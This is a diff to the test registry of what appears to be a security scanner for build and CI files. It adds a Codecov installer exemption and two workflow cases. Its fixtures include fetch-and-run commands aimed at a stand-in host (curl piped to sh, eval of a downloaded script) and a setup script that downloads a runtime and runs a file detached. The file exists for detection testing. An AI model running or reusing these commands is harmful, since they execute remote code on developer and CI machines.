@@ -180,6 +180,8 @@ var registry = []Rule{
 		// the runner: how a loader brings its own runtime.
 		{"scripts/setup.mjs", "execFileSync('sh', ['-c', `curl -fsSL https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip -o ${d}/b.zip && unzip -oq ${d}/b.zip -d ${d}`]);\nexecFileSync(join(d, 'bun-linux-x64', 'bun'), ['x.js'], { detached: true });", 2, false},
 		{"x.sh", "curl -fsSL https://x.invalid/i | sh", 0, false},
+		// Codecov's own (legacy) uploader from Codecov's host: a vendor installer.
+		{"x.sh", "curl -s https://codecov.io/bash | bash", 0, true},
 		{"x.sh", "curl -fsSL \\\n  https://x.invalid/i \\\n  | bash", 3, false},
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
 		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
@@ -1153,6 +1155,9 @@ var registry = []Rule{
 			{".buildkite/pipeline.yml", "steps:\n  - command: make test\n    plugins:\n      - docker-compose#v5.2.0:\n          run: app\n      - buildkite-plugins/junit-annotate#v2.4.1: ~", 0, true},
 			{"azure-pipelines.yml", "resources:\n  repositories:\n    - repository: templates\n      type: git\n      name: Acme/PipelineTemplates", 0, true},
 			{"Jenkinsfile", "@Library('pipeline-library@main') _\nbuildPlugin()", 0, true},
+			// A file copied into the other repository's checkout is written there, not run.
+			{".github/workflows/w.yml", "on: push\njobs:\n  a:\n    if: github.repository == 'acme/tool'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: someone/homebrew-tap\n          path: tap\n      - run: cp tool.rb tap/Formula/tool.rb", 11, true},
+			{".github/workflows/w.yml", "on: push\njobs:\n  a:\n    if: github.repository == 'acme/tool'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: someone/homebrew-tap\n          path: tap\n      - run: cp tool.rb tap/Formula/tool.rb && ruby tap/scripts/audit.rb", 11, false},
 		}},
 	{"gradle-distribution", KindBuildFile, High, "Gradle wrapper downloads Gradle from somewhere else",
 		"gradlew downloads and runs the distribution it names, on every build", []Case{
